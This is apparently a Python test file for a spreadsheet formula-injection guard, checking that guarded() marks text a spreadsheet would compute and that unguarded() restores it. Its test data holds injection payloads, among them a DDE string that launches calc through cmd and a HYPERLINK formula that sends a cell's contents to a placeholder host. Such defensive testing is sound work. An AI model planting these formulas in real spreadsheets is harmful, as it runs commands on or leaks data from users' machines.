import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from lorapp.domain.sheets.guards import guarded, unguarded

COMPUTED = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    " =1+1",
    "'=1+1",
    '"=1+1',
    "' \" =cmd|' /C calc'!A0",
    "“=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u00a0=1+1",
    '=HYPERLINK("http://x.example?leak="&A1,"here")',
    "=DDE(1)|x",
)
PLAIN = ("", "Dr. Ann Roe", "1+1", "a=b", "me@example.org", "'twas", "(+1) 555 0100", "5 - 3", "–")


@pytest.mark.parametrize("text", COMPUTED)
def test_a_text_that_a_spreadsheet_would_compute_gets_a_mark(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


@given(st.text(alphabet="'\" =+-@\t\r\n＝a“") | st.text())
@example("'\tx")
@example("''=x")
def test_the_mark_is_taken_off_again_and_nothing_else(text: str) -> None:
    assert unguarded(guarded(text)) == text
